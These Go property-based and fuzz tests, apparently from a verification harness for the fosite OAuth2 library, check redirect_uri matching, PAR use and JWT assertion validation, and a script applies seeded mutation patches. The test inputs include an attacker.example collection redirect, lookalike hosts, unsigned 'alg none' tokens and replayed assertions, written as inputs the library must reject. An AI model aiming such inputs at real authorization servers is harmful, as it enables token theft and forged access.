					h.Violate(rt, "C11/par-accepted-unqualified-redirect", "PAR accepted: %s", desc)
				}
				if sent && !pushOmits && insecure(reqStr) {
					h.Violate(rt, "C11/par-accepted-plain-http", "PAR accepted a redirect target the configured transport rule (%s) rejects: %s", checker, desc)
				}
				uq := url.Values{"client_id": {"c11"}, "request_uri": {pr.RequestURI}}
				if rapid.Bool().Draw(rt, "frontChannelRedirect") {
					// parameters sent alongside the request_uri must not influence where the response goes
					uq.Set("redirect_uri", rapid.SampledFrom([]string{"https://attacker.example/collect", "http://127.0.0.1:9/x", reqStr + "/evil", "https://rp.example.evil.example/cb"}).Draw(rt, "frontRedirect"))
					h.Label("par-use-with-front-channel-redirect_uri")
				}
				// the request_uri may also be presented under another client's id: whatever happens then, no redirect
				// may leave for a URI that is not registered for the client the response is issued to
				foreign := rapid.IntRange(0, 3).Draw(rt, "requestURIUnderAnotherClientID") == 0
				if foreign {
					uq.Set("client_id", "c11b")
					h.Label("par-use-under-another-client-id")
				}
				ar := w.Authorize(uq, h.Consent{})
				tgt := ar.Location
				if ar.Mode == "form_post" {
					tgt = ar.FormURL
				}
				if tgt != "" && tgt != "#ZgotmplZ" {
					if foreign {
						// an error may go back to the client that pushed the request (the request_uri identifies it); a
						// success response is issued to c11b and must go to one of c11b's URIs
						forB := false
						for _, r := range cl2.RedirectURIs {
							if tgt == r || strings.HasPrefix(tgt, r+"?") || strings.HasPrefix(tgt, r+"#") {
								forB = true
							}
						}
						forA, _ := targetOK(tgt, ar.Mode, reg)
						success := ar.Code != "" || ar.Access != "" || ar.IDToken != ""
						if (success && !forB) || (!success && !forA && !forB) {
							h.Violate(rt, "C11/redirect-to-unregistered-target", "request_uri pushed by c11 used with client_id=c11b: the response (success=%v) went to %q, which is not registered for the client it is issued to; %s", success, tgt, desc)
						}
					} else if ok, reason := targetOK(tgt, ar.Mode, reg); !ok {
						h.Violate(rt, "C11/redirect-to-unregistered-target", "after PAR: %s: target %q; %s", reason, tgt, desc)
					}
				}
				h.Label("par-accepted")
			}
		}
	})
	h.MarkCompleted()
}

func authorizeDenied(w *h.World, q url.Values) *h.AuthzResult { return w.AuthorizeDeny(q) }

// FuzzC11RedirectMatch: arbitrary requested redirect_uri strings against a
// fixed registration; the oracle is the output rule (any redirect target is a
// registered URI or a loopback variant of one).
func FuzzC11RedirectMatch(f *testing.F) {
	reg := []uriParts{
		{Scheme: "https", Host: "rp.example", Path: "/cb"},
		{Scheme: "http", Host: "127.0.0.1", Path: "/cb", Query: "x=1"},
		{Scheme: "http", Host: "[::1]", Port: "8080", Path: "/cb"},
		{Scheme: "myapp", Host: "callback", Path: "/p"},
	}
	var regStr []string
	for _, r := range reg {
		regStr = append(regStr, r.String())
	}
	for _, s := range []string{"https://rp.example/cb", "http://127.0.0.1:1234/cb?x=1", "http://[::1]:9/cb", "https://rp.example/cb/", "https://rp.example/cb#f", "http://127.0.0.1.evil/cb?x=1", "http://user@127.0.0.1/cb?x=1",
		"https://rp.example\\@evil/cb", "//rp.example/cb", "HTTPS://rp.example/cb", "http://127.0.0.1/cb?x=1&y=2", "http://localhost/cb?x=1", "http://127.0.0.1/c%62?x=1", "http://[0:0:0:0:0:0:0:1]:8080/cb", "myapp://callback/p", "", " ", "https://rp.example/cb?", "http://127.0.0.1:0/cb?x=1", "http://127.1/cb?x=1", "http://0x7f.0.0.1/cb?x=1"} {
		f.Add(s, uint8(0))
	}
	f.Fuzz(func(t *testing.T, requested string, sel uint8) {
		h.ClockReset()
		w := h.NewWorld(h.Spec{RefreshScopes: []string{}})
		cl := stdClient("c11", false)
		cl.Secret = w.HashSecret("s")
		cl.RedirectURIs = regStr
		cl.ResponseModes = []fosite.ResponseModeType{fosite.ResponseModeQuery, fosite.ResponseModeFragment, fosite.ResponseModeFormPost}
		w.AddClient(cl, "s")
		rtype := []string{"code", "token", "code token"}[int(sel)%3]
		mode := []string{"", "query", "fragment", "form_post"}[int(sel/3)%4]
		q := url.Values{"client_id": {"c11"}, "response_type": {rtype}, "state": {"state-0123456789"}, "scope": {"a"}, "redirect_uri": {requested}}
		if mode != "" {
			q.Set("response_mode", mode)
		}
		if sel >= 128 {
			q.Set("scope", "a nope")
		}
		res := w.Authorize(q, h.Consent{})
		target := res.Location
		if res.Mode == "form_post" {
			target = res.FormURL
		}
		if target == "" || target == "#ZgotmplZ" {
			return
		}
		if ok, reason := targetOK(target, res.Mode, reg); !ok {
			h.Violate(t, "C11/redirect-to-unregistered-target", "%s: registered=%q requested=%q type=%q mode=%q -> target %q", reason, regStr, requested, rtype, mode, target)
		}
	})
}
