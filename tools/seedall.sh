#!/bin/bash
# usage: tools/seedall.sh [ID-X ...] — run the quick check of each kept seeded change's property against it (one line each).
# Expected: exit=1 for every line. Applies each patch to /repo and reverts it straight afterwards.
cd /verif/seeded || exit 2
list="${@:-$(ls -d C??-? )}"
for d in $list; do
  id=${d%%-*}
  echo -n "$d: "
  /verif/tools/mutcheck.sh /verif/seeded/$d/patch.diff $id 2>&1 | cut -c1-220 | head -3 | tr '\n' ' '
  echo
done
