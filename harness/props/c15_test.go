package props

import (
	"context"
	"fmt"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/dgraph-io/ristretto"
	"github.com/go-jose/go-jose/v3"
	"github.com/ory/fosite"
	"github.com/ory/fosite/storage"
	"pgregory.net/rapid"

	"verifharness/h"
)

// C15 — JWT assertions are verified completely and each jti is accepted once.

type assertionSpec struct {
	key     string // "registered" | "other-client" | "unregistered" | "registered-ec"
	alg     string
	kid     string // "right" | "absent" | "unknown"
	defects []string
}

func c15World(store string, mut func(c *fosite.Config)) (*h.World, *fosite.DefaultOpenIDConnectClient) {
	w := h.NewWorld(h.Spec{Store: store, RefreshScopes: []string{}, Mutate: mut})
	dc := &fosite.DefaultClient{ID: "jwt-client", RedirectURIs: []string{redirectURI}, GrantTypes: []string{"client_credentials", jwtBearerGrant, "authorization_code", deviceGrant}, Scopes: []string{"a", "b"}}
	cl := &fosite.DefaultOpenIDConnectClient{DefaultClient: dc, TokenEndpointAuthMethod: "private_key_jwt", TokenEndpointAuthSigningAlgorithm: "RS256",
		JSONWebKeys: &jose.JSONWebKeySet{Keys: []jose.JSONWebKey{h.PublicJWK(h.RSAKey(1), "kid-1", "RS256"), h.PublicJWK(h.ECKey("P-256"), "kid-ec", "ES256")}}}
	w.AddClient(cl, "")
	oc := &fosite.DefaultOpenIDConnectClient{DefaultClient: &fosite.DefaultClient{ID: "other-jwt-client", GrantTypes: []string{"client_credentials"}, Scopes: []string{"a"}}, TokenEndpointAuthMethod: "private_key_jwt", TokenEndpointAuthSigningAlgorithm: "RS256",
		JSONWebKeys: &jose.JSONWebKeySet{Keys: []jose.JSONWebKey{h.PublicJWK(h.RSAKey(2), "kid-1", "RS256")}}}
	w.AddClient(oc, "")
	// a plain confidential client for the bearer grant when client authentication is required
	pc := stdClient("plain", false)
	pc.Secret = w.HashSecret("plain-secret")
	pc.GrantTypes = append(pc.GrantTypes, jwtBearerGrant)
	w.AddClient(pc, "plain-secret")
	// RFC 7523 key registration for (iss, sub)
	w.Mem.IssuerPublicKeys["trusted-issuer"] = storage.IssuerPublicKeys{Issuer: "trusted-issuer", KeysBySub: map[string]storage.SubjectPublicKeys{
		"user-1": {Subject: "user-1", Keys: map[string]storage.PublicKeyScopes{"bk-1": {Key: jwkPtr(h.PublicJWK(h.RSAKey(1), "bk-1", "RS256")), Scopes: []string{"a", "b.*"}}}},
		"user-2": {Subject: "user-2", Keys: map[string]storage.PublicKeyScopes{"bk-2": {Key: jwkPtr(h.PublicJWK(h.RSAKey(2), "bk-2", "RS256")), Scopes: []string{"a"}}}},
	}}
	return w, cl
}

var c15ClientDefects = []string{"iss-other", "iss-absent", "sub-other", "sub-absent", "sub-number", "aud-other", "aud-absent", "aud-list-without", "exp-absent", "exp-zero", "exp-half", "exp-negative", "exp-past", "exp-string", "jti-absent", "jti-empty", "jti-number", "jti-replayed", "nbf-future", "iat-future"}

func buildClientAssertion(rt *rapid.T, sp assertionSpec, jti string, usedJTI string, sendClientID bool) (string, []string) {
	now := h.Now()
	life := time.Duration(rapid.SampledFrom([]int{60, 300, 300, 600, 3600, 7200, 3 * 86400}).Draw(rt, "assertionLifetime")) * time.Second
	claims := map[string]interface{}{"iss": "jwt-client", "sub": "jwt-client", "aud": h.TokenURL, "jti": jti, "exp": now.Add(life).Unix(), "iat": now.Unix()}
	if rapid.Bool().Draw(rt, "audAsList") {
		claims["aud"] = []string{"https://elsewhere.example", h.TokenURL}
	}
	var fatal []string // defects that the statement says must lead to refusal
	for _, d := range sp.defects {
		switch d {
		case "iss-other":
			claims["iss"] = "other-jwt-client"
			_ = d
		case "iss-absent":
			delete(claims, "iss")
			_ = d
		case "sub-other":
			claims["sub"] = "other-jwt-client"
			_ = d
		case "sub-absent":
			delete(claims, "sub")
			_ = d
		case "sub-number":
			claims["sub"] = 42
			_ = d
		case "aud-other":
			claims["aud"] = "https://as.example/oauth2/token/"
			fatal = append(fatal, d)
		case "aud-absent":
			delete(claims, "aud")
			fatal = append(fatal, d)
		case "aud-list-without":
			claims["aud"] = []string{"https://elsewhere.example", "https://as.example"}
			fatal = append(fatal, d)
		case "exp-absent":
			delete(claims, "exp")
			fatal = append(fatal, d)
		case "exp-zero":
			claims["exp"] = 0
			fatal = append(fatal, d)
		case "exp-half":
			claims["exp"] = 0.5
			fatal = append(fatal, d)
		case "exp-negative":
			claims["exp"] = -1
			fatal = append(fatal, d)
		case "exp-past":
			claims["exp"] = now.Add(-3 * time.Second).Unix()
			fatal = append(fatal, d)
		case "exp-string":
			claims["exp"] = fmt.Sprint(now.Add(5 * time.Minute).Unix()) // wrong JSON type, right instant: refusal allowed, not required
		case "jti-absent":
			delete(claims, "jti")
			fatal = append(fatal, d)
		case "jti-empty":
			claims["jti"] = ""
			fatal = append(fatal, d)
		case "jti-number":
			claims["jti"] = 12345
			fatal = append(fatal, d)
		case "jti-replayed":
			if usedJTI != "" {
				claims["jti"] = usedJTI
				fatal = append(fatal, d)
			}
		case "nbf-future":
			claims["nbf"] = now.Add(time.Hour).Unix() // refusal allowed, not required for client assertions
		case "iat-future":
			claims["iat"] = now.Add(time.Hour).Unix()
		}
	}
	// who does the request claim to be? client_id if sent, otherwise the sub claim
	target := "jwt-client"
	if !sendClientID {
		t, ok := claims["sub"].(string)
		if !ok || (t != "jwt-client" && t != "other-jwt-client") {
			fatal = append(fatal, "sub-does-not-name-a-client")
		}
		target = t
	}
	if claims["iss"] != target {
		fatal = append(fatal, "iss-is-not-the-client")
	}
	if claims["sub"] != target {
		fatal = append(fatal, "sub-is-not-the-client")
	}
	if (target == "other-jwt-client") != (sp.key == "other-client") && sp.key != "unregistered" {
		fatal = append(fatal, "key-not-registered-for-the-client")
	}
	var key interface{} = h.RSAKey(1)
	kid := "kid-1"
	switch sp.key {
	case "other-client":
		key = h.RSAKey(2)
	case "unregistered":
		key = h.RSAKey(0)
		fatal = append(fatal, "unregistered-key")
	case "registered-ec":
		key, kid = h.ECKey("P-256"), "kid-ec"
	}
	switch sp.kid {
	case "absent":
		kid = ""
	case "unknown":
		kid = "no-such-kid"
		fatal = append(fatal, "unknown-kid")
	}
	alg := sp.alg
	var tok string
	switch alg {
	case "none":
		tok = h.UnsignedJWT(map[string]interface{}{"alg": "none", "typ": "JWT", "kid": kid}, claims, "")
		fatal = append(fatal, "alg-none")
	case "HS256":
		s, err := h.SignJWT([]byte("jwt-client-shared-secret-0123456789abcdef"), "HS256", kid, claims, nil)
		if err != nil {
			rt.Fatalf("VERIF-INFRA: %v", err)
		}
		tok = s
		fatal = append(fatal, "alg-symmetric")
	default:
		if _, isEC := key.(interface{ Public() interface{} }); isEC {
		}
		if sp.key == "registered-ec" {
			alg = "ES256"
			fatal = append(fatal, "alg-not-the-registered-one") // client registered RS256
		} else if alg != "RS256" {
			fatal = append(fatal, "alg-not-the-registered-one")
		}
		s, err := h.SignJWT(key, alg, kid, claims, nil)
		if err != nil {
			rt.Fatalf("VERIF-INFRA: sign %s: %v", alg, err)
		}
		tok = s
	}
	return tok, fatal
}

func TestC15_ClientAssertions(t *testing.T) {
	h.SetProperty("C15")
	selfTest(t)
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		store := rapid.SampledFrom([]string{"mem", "tx"}).Draw(rt, "store")
		// the bound on RFC 7523 *grants* is not a bound on client assertions: a long-lived assertion's jti has to be
		// remembered for as long as the assertion is honoured, whatever that setting says
		maxDur := time.Duration(rapid.SampledFrom([]int{0, 0, 120, 3600}).Draw(rt, "jwtBearerMaxDuration")) * time.Second
		// where the clients' keys come from: inline JWKS, or jwks_uri documents fetched (and cached) by the library's own
		// fetcher over an in-process transport. The two clients' URIs differ only in the query string.
		keySource := rapid.SampledFrom([]string{"inline", "inline", "jwks_uri"}).Draw(rt, "keySource")
		var jwksCache *ristretto.Cache[string, *jose.JSONWebKeySet]
		if keySource == "jwks_uri" {
			// the fetcher's cache of this case only (closed at the end: its background goroutines must not pile up)
			jwksCache, _ = ristretto.NewCache(&ristretto.Config[string, *jose.JSONWebKeySet]{NumCounters: 1000, MaxCost: 100, BufferItems: 64, Cost: func(*jose.JSONWebKeySet) int64 { return 1 }})
			defer jwksCache.Close()
		}
		w, jc := c15World(store, func(c *fosite.Config) {
			c.GrantTypeJWTBearerMaxDuration = maxDur
			if keySource == "jwks_uri" {
				c.JWKSFetcherStrategy = fosite.NewDefaultJWKSFetcherStrategy(fosite.JWKSFetcherWithHTTPClient(c.HTTPClient), fosite.JWKSFetcherWithCache(jwksCache))
			}
		})
		if keySource == "jwks_uri" {
			// the two documents live at URIs that are different strings but easy to confuse: same path with another
			// query, or the same letters in another case
			uris := rapid.SampledFrom([]map[string]string{
				{"jwt-client": "https://rp.example/keys?tenant=a", "other-jwt-client": "https://rp.example/keys?tenant=b"},
				{"jwt-client": "https://rp.example/tenants/Acme/jwks.json", "other-jwt-client": "https://rp.example/tenants/acme/jwks.json"},
			}).Draw(rt, "jwksURIs")
			for _, id := range []string{"jwt-client", "other-jwt-client"} {
				uri := uris[id]
				oc, _ := w.Mem.Clients[id].(*fosite.DefaultOpenIDConnectClient)
				doc, _ := jsonMarshal(oc.JSONWebKeys)
				w.Docs[uri] = string(doc)
				oc.JSONWebKeys = nil
				oc.JSONWebKeysURI = uri
			}
			_ = jc
			h.Label("keys-from-jwks_uri")
		}
		// the same assertion rules hold at every endpoint that authenticates clients
		presentAt := func(where, assertion string, sendClientID bool) (bool, h.ErrInfo) {
			form := url.Values{"client_assertion_type": {assertionType}, "client_assertion": {assertion}}
			if sendClientID {
				form.Set("client_id", "jwt-client")
			}
			switch where {
			case "par":
				form.Set("response_type", "code")
				form.Set("state", "state-0123456789")
				form.Set("redirect_uri", redirectURI)
				form.Set("scope", "a")
				r := w.PAR(form, h.Auth{})
				return r.RequestURI != "", r.Err
			case "revoke":
				form.Set("token", "no-such-token")
				r := w.Revoke(form, h.Auth{})
				return r.Err.OK(), r.Err
			case "device_authorization":
				form.Set("scope", "a")
				form.Set("client_id", "jwt-client") // this endpoint requires the parameter
				r := w.DeviceAuth(form, h.Auth{}, h.Consent{})
				return r.DeviceCode != "", r.Err
			}
			form.Set("grant_type", "client_credentials")
			form.Set("scope", "a")
			tr := w.Token(form, h.Auth{}, h.TokenOpts{})
			return tr.OK() || tr.Access != "", tr.Err
		}
		endpoints := []string{"token", "token", "token", "par", "revoke", "device_authorization"}
		if keySource == "jwks_uri" && rapid.Bool().Draw(rt, "neighbourAuthenticatesFirst") {
			// the other client authenticates as itself (its key set is now in the fetcher's cache), then its key is
			// used for an assertion in jwt-client's name, then jwt-client authenticates with its own key
			mk := func(iss string, key interface{}, jti string) string {
				now := h.Now()
				return h.MustSignJWT(key, "RS256", "kid-1", map[string]interface{}{"iss": iss, "sub": iss, "aud": h.TokenURL, "jti": jti, "exp": now.Add(300e9).Unix(), "iat": now.Unix()})
			}
			tok := func(a string) *h.TokenResult {
				return w.Token(url.Values{"grant_type": {"client_credentials"}, "scope": {"a"}, "client_assertion_type": {assertionType}, "client_assertion": {a}}, h.Auth{}, h.TokenOpts{})
			}
			r1 := tok(mk("other-jwt-client", h.RSAKey(2), "pre-1"))
			r2 := tok(mk("jwt-client", h.RSAKey(2), "pre-2"))
			r3 := tok(mk("jwt-client", h.RSAKey(1), "pre-3"))
			h.Label("neighbour-authenticates-first")
			if !r1.OK() {
				rt.Fatalf("VERIF-INFRA: the other client's own assertion was refused: %v %s", r1.Err, r1.Err.Hint)
			}
			if r2.OK() || r2.Access != "" {
				h.Violate(rt, "C15/client-assertion/accepted-with-defect", "an assertion in jwt-client's name signed with the other client's key was accepted after that client had authenticated (key sets published at %v)", w.Mem.Clients["jwt-client"].(*fosite.DefaultOpenIDConnectClient).JSONWebKeysURI)
			}
			if !r3.OK() {
				h.Violate(rt, "C15/client-assertion/valid-refused", "jwt-client's own valid assertion was refused after the other client had authenticated: %v %s", r3.Err, r3.Err.Hint)
			}
		}
		// a history of presentations
		var log []string
		type used struct {
			jti string
			exp time.Time
		}
		var usedJTIs []used
		var accepted []struct {
			tok string
			exp time.Time
		}
		n := rapid.IntRange(1, 6).Draw(rt, "presentations")
		nontrivial := false
		var shape []string
		for i := 0; i < n; i++ {
			action := rapid.SampledFrom([]string{"new", "new", "new", "replay-same-assertion", "advance"}).Draw(rt, "action")
			switch action {
			case "advance":
				d := time.Duration(rapid.SampledFrom([]int{1, 60, 121, 299, 301, 600, 3601, 86400, 86460}).Draw(rt, "secs")) * time.Second
				h.Advance(d)
				log = append(log, fmt.Sprintf("advance %v", d))
				shape = append(shape, "advance")
				continue
			case "replay-same-assertion":
				if len(accepted) == 0 {
					continue
				}
				a := accepted[rapid.IntRange(0, len(accepted)-1).Draw(rt, "which")]
				where := rapid.SampledFrom(endpoints).Draw(rt, "replayAt")
				ok, rerr := presentAt(where, a.tok, rapid.Bool().Draw(rt, "replayWithClientID"))
				log = append(log, fmt.Sprintf("replay of an accepted assertion (exp in %v) at %s -> %v", a.exp.Sub(h.Now()), where, rerr))
				shape = append(shape, "replay@"+where)
				nontrivial = true
				h.Label("replay-same-assertion")
				h.Label("replay@" + where)
				if ok {
					h.Violate(rt, "C15/client-assertion/replayed", "an already accepted client assertion was accepted again\n%s", strings.Join(log, "\n"))
				}
				continue
			}
			var sp assertionSpec
			sp.key = rapid.SampledFrom([]string{"registered", "registered", "registered", "other-client", "unregistered", "registered-ec"}).Draw(rt, "key")
			sp.alg = rapid.SampledFrom([]string{"RS256", "RS256", "RS256", "RS384", "PS256", "none", "HS256"}).Draw(rt, "alg")
			sp.kid = rapid.SampledFrom([]string{"right", "right", "absent", "unknown"}).Draw(rt, "kid")
			nd := rapid.SampledFrom([]int{0, 0, 1, 1, 2}).Draw(rt, "nDefects")
			for j := 0; j < nd; j++ {
				sp.defects = append(sp.defects, rapid.SampledFrom(c15ClientDefects).Draw(rt, "defect"))
			}
			jti := fmt.Sprintf("jti-%d-%s", i, rapid.StringMatching("[a-z]{6}").Draw(rt, "jti"))
			// a jti that was accepted before and whose assertion is still unexpired
			liveUsed := ""
			for _, u := range usedJTIs {
				if u.exp.After(h.Now().Add(2 * time.Second)) {
					liveUsed = u.jti
				}
			}
			sendClientID := rapid.Bool().Draw(rt, "sendClientID")
			tok, fatal := buildClientAssertion(rt, sp, jti, liveUsed, sendClientID)
			where := rapid.SampledFrom(endpoints).Draw(rt, "endpoint")
			if where == "device_authorization" && !sendClientID {
				// the device authorization endpoint compares the mandatory client_id parameter with the authenticated client
				where = "token"
			}
			ok, perr := presentAt(where, tok, sendClientID)
			tr := struct {
				Err h.ErrInfo
				ok  bool
			}{perr, ok}
			log = append(log, fmt.Sprintf("present at %s key=%s alg=%s kid=%s defects=%v -> %v (reference: must-refuse reasons %v)", where, sp.key, sp.alg, sp.kid, sp.defects, tr.Err, fatal))
			shape = append(shape, fmt.Sprintf("%s/%s/%s/%s/%v", where, sp.key, sp.alg, sp.kid, sp.defects))
			h.Label("endpoint=" + where)
			if len(fatal) == 1 {
				nontrivial = true
				h.Label("one-defect:" + fatal[0])
			}
			if tr.ok {
				h.Label("accepted")
				_, cl, _ := h.DecodeJWT(tok)
				if j, ok := cl["jti"].(string); ok {
					exp := h.Now().Add(5 * time.Minute)
					if f, ok := cl["exp"].(float64); ok && f > 0 {
						exp = time.Unix(int64(f), 0)
					}
					usedJTIs = append(usedJTIs, used{j, exp})
					accepted = append(accepted, struct {
						tok string
						exp time.Time
					}{tok, exp})
				}
				if len(fatal) > 0 {
					fp := "C15/client-assertion/accepted-with-defect"
					for _, f := range fatal {
						if strings.HasPrefix(f, "exp-") {
							fp = "C15/assertion-exp-zero-accepted"
						}
					}
					h.Violate(rt, fp, "client assertion accepted although: %v\n%s", fatal, strings.Join(log, "\n"))
				}
			} else if len(fatal) == 0 && len(sp.defects) == 0 {
				h.Violate(rt, "C15/client-assertion/valid-refused", "a completely valid client assertion was refused: %v %s\n%s", tr.Err, tr.Err.Hint, strings.Join(log, "\n"))
			}
		}
		h.Case("C15/client/"+strings.Join(shape, ";"), nontrivial, func() any { return map[string]any{"kind": "client_assertion", "store": store, "history": log} })
	})
	h.MarkCompleted()
}

var c15BearerDefects = []string{"iss-unknown", "sub-unknown", "iss-absent", "sub-absent", "aud-other", "aud-absent", "exp-absent", "exp-past", "exp-beyond-max", "nbf-future", "iat-absent", "jti-absent", "jti-replayed", "scope-not-covered", "key-of-other-subject", "unregistered-key", "kid-absent", "alg-none", "alg-hs256"}

func TestC15_JWTBearer(t *testing.T) {
	h.SetProperty("C15")
	selfTest(t)
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		idOptional := rapid.Bool().Draw(rt, "jtiOptional")
		iatOptional := rapid.Bool().Draw(rt, "iatOptional")
		skipAuth := rapid.Bool().Draw(rt, "canSkipClientAuth")
		maxDur := time.Duration(rapid.SampledFrom([]int{300, 3600, 86400}).Draw(rt, "maxDuration")) * time.Second
		store := rapid.SampledFrom([]string{"mem", "tx"}).Draw(rt, "store")
		w, _ := c15World(store, func(c *fosite.Config) {
			c.GrantTypeJWTBearerIDOptional = idOptional
			c.GrantTypeJWTBearerIssuedDateOptional = iatOptional
			c.GrantTypeJWTBearerCanSkipClientAuth = skipAuth
			c.GrantTypeJWTBearerMaxDuration = maxDur
		})
		var log []string
		var usedJTIs []string
		usedUntil := map[string]time.Time{} // jti -> exp of the assertion that carried it
		type acceptedAssertion struct {
			form url.Values
			auth h.Auth
			exp  time.Time
			jti  bool
		}
		var acceptedOnes []acceptedAssertion
		n := rapid.IntRange(1, 6).Draw(rt, "presentations")
		nontrivial := false
		var shape []string
		for i := 0; i < n; i++ {
			switch rapid.IntRange(0, 5).Draw(rt, "step") {
			case 0:
				d := []time.Duration{maxDur / 4, maxDur/2 + 10*time.Second, maxDur + time.Minute}[rapid.IntRange(0, 2).Draw(rt, "advance")]
				h.Advance(d)
				log = append(log, fmt.Sprintf("advance %v", d))
				shape = append(shape, "advance")
				continue
			case 1:
				if len(acceptedOnes) == 0 {
					break
				}
				a := acceptedOnes[rapid.IntRange(0, len(acceptedOnes)-1).Draw(rt, "which")]
				tr := w.Token(a.form, a.auth, h.TokenOpts{Session: h.NewSess("")})
				log = append(log, fmt.Sprintf("replay of an accepted assertion (exp in %v, jti=%v) -> %v", a.exp.Sub(h.Now()), a.jti, tr.Err))
				shape = append(shape, "replay")
				h.Label("bearer-replay-of-accepted-assertion")
				if a.jti || a.exp.Before(h.Now().Add(-2*time.Second)) {
					nontrivial = true
					if tr.OK() || tr.Access != "" {
						h.Violate(rt, "C15/jwt-bearer/replayed", "an already accepted JWT-bearer assertion (jti present: %v, exp in %v) was accepted again\n%s", a.jti, a.exp.Sub(h.Now()), strings.Join(log, "\n"))
					}
				}
				continue
			}
			now := h.Now()
			jti := fmt.Sprintf("bjti-%d-%s", i, rapid.StringMatching("[a-z]{6}").Draw(rt, "jti"))
			claims := map[string]interface{}{"iss": "trusted-issuer", "sub": "user-1", "aud": []string{h.TokenURL}, "jti": jti, "exp": now.Add(maxDur / 2).Unix(), "iat": now.Unix()}
			postDated := rapid.IntRange(0, 5).Draw(rt, "postDated") == 0
			if postDated {
				// issued "in the future": the lifetime bound is relative to iat, so such an assertion may live beyond
				// now + max. Whether it is accepted is not asserted; if it is, it is single-use until its exp like any other
				claims["iat"] = now.Add(maxDur * 8 / 10).Unix()
				claims["exp"] = now.Add(maxDur * 13 / 10).Unix()
			}
			if rapid.Bool().Draw(rt, "audString") {
				claims["aud"] = h.TokenURL
			}
			scope := rapid.SampledFrom([]string{"a", "", "b.read", "a b.x"}).Draw(rt, "scope")
			var key interface{} = h.RSAKey(1)
			kid := "bk-1"
			alg := "RS256"
			nd := rapid.SampledFrom([]int{0, 0, 1, 1, 2}).Draw(rt, "nDefects")
			if nd > 0 && postDated {
				// the named defects are defined relative to an assertion issued now
				postDated = false
				claims["iat"], claims["exp"] = now.Unix(), now.Add(maxDur/2).Unix()
			}
			var fatal []string
			var defects []string
			for j := 0; j < nd; j++ {
				d := rapid.SampledFrom(c15BearerDefects).Draw(rt, "defect")
				defects = append(defects, d)
				switch d {
				case "iss-unknown":
					claims["iss"] = "stranger"
					fatal = append(fatal, d)
				case "sub-unknown":
					claims["sub"] = "user-9"
					fatal = append(fatal, d)
				case "iss-absent":
					delete(claims, "iss")
					fatal = append(fatal, d)
				case "sub-absent":
					delete(claims, "sub")
					fatal = append(fatal, d)
				case "aud-other":
					claims["aud"] = []string{"https://as.example/"}
					fatal = append(fatal, d)
				case "aud-absent":
					delete(claims, "aud")
					fatal = append(fatal, d)
				case "exp-absent":
					delete(claims, "exp")
					fatal = append(fatal, d)
				case "exp-past":
					claims["exp"] = now.Add(-3 * time.Second).Unix()
					fatal = append(fatal, d)
				case "exp-beyond-max":
					claims["exp"] = now.Add(maxDur + time.Minute).Unix()
					fatal = append(fatal, d)
				case "nbf-future":
					claims["nbf"] = now.Add(time.Minute).Unix()
					fatal = append(fatal, d)
				case "iat-absent":
					delete(claims, "iat")
					if !iatOptional {
						fatal = append(fatal, d)
					}
				case "jti-absent":
					delete(claims, "jti")
					if !idOptional {
						fatal = append(fatal, d)
					}
				case "jti-replayed":
					if len(usedJTIs) > 0 {
						last := usedJTIs[len(usedJTIs)-1]
						claims["jti"] = last
						// a jti has to be remembered for as long as its assertion is honoured; afterwards re-use is unspecified
						if usedUntil[last].After(now.Add(2 * time.Second)) {
							fatal = append(fatal, d)
						} else {
							defects = append(defects, "jti-of-an-expired-assertion")
						}
					}
				case "scope-not-covered":
					scope = rapid.SampledFrom([]string{"c", "a c", "b", "*"}).Draw(rt, "badScope")
					fatal = append(fatal, d)
				case "key-of-other-subject":
					key, kid = h.RSAKey(2), "bk-2"
					fatal = append(fatal, d)
				case "unregistered-key":
					key = h.RSAKey(0)
					fatal = append(fatal, d)
				case "kid-absent":
					kid = ""
				case "alg-none":
					alg = "none"
					fatal = append(fatal, d)
				case "alg-hs256":
					alg = "HS256"
					fatal = append(fatal, d)
				}
			}
			if _, has := claims["jti"]; !has || claims["jti"] == jti {
				// a later defect removed / replaced the replayed jti again
				var f2 []string
				for _, f := range fatal {
					if f != "jti-replayed" {
						f2 = append(f2, f)
					}
				}
				fatal = f2
			}
			var tok string
			switch alg {
			case "none":
				tok = h.UnsignedJWT(map[string]interface{}{"alg": "none", "typ": "JWT", "kid": kid}, claims, "")
			case "HS256":
				tok, _ = h.SignJWT([]byte("0123456789abcdef0123456789abcdef"), "HS256", kid, claims, nil)
			default:
				tok = h.MustSignJWT(key, alg, kid, claims)
			}
			form := url.Values{"grant_type": {jwtBearerGrant}, "assertion": {tok}}
			if scope != "" {
				form.Set("scope", scope)
			}
			auth := h.Auth{}
			clientAuth := rapid.SampledFrom([]string{"none", "plain-ok", "plain-wrong"}).Draw(rt, "clientAuth")
			switch clientAuth {
			case "plain-ok":
				auth = w.BasicFor("plain")
			case "plain-wrong":
				auth = h.Auth{BasicUser: "plain", BasicPass: "nope"}
			}
			if !skipAuth && clientAuth != "plain-ok" {
				fatal = append(fatal, "client-authentication-required")
			}
			tr := w.Token(form, auth, h.TokenOpts{Session: h.NewSess("")})
			log = append(log, fmt.Sprintf("present defects=%v scope=%q clientAuth=%s -> %v (reference: must-refuse reasons %v)", defects, scope, clientAuth, tr.Err, fatal))
			shape = append(shape, fmt.Sprintf("%v/%s/%s", defects, scope, clientAuth))
			if len(fatal) == 1 {
				nontrivial = true
				h.Label("bearer-one-defect:" + fatal[0])
			}
			if tr.OK() {
				h.Label("bearer-accepted")
				if j, ok := claims["jti"].(string); ok {
					usedJTIs = append(usedJTIs, j)
					if ef, ok := claims["exp"].(int64); ok {
						usedUntil[j] = time.Unix(ef, 0)
					} else {
						usedUntil[j] = now.Add(1000 * time.Hour)
					}
				}
				if ef, ok := claims["exp"].(int64); ok {
					_, hasJTI := claims["jti"].(string)
					acceptedOnes = append(acceptedOnes, acceptedAssertion{form, auth, time.Unix(ef, 0), hasJTI})
				}
				if postDated {
					h.Label("bearer-post-dated-accepted")
				}
				if len(fatal) > 0 {
					h.Violate(rt, "C15/jwt-bearer/accepted-with-defect", "JWT-bearer assertion accepted although: %v (options jtiOptional=%v iatOptional=%v skipClientAuth=%v maxDuration=%v)\n%s", fatal, idOptional, iatOptional, skipAuth, maxDur, strings.Join(log, "\n"))
				}
				// the token's subject is the assertion's subject, scopes as requested
				d := w.IntrospectDirect(tr.Access, fosite.AccessToken)
				if d.Active && d.Subject != "user-1" {
					h.Violate(rt, "C15/jwt-bearer/wrong-subject", "token issued for subject %q, assertion subject user-1", d.Subject)
				}
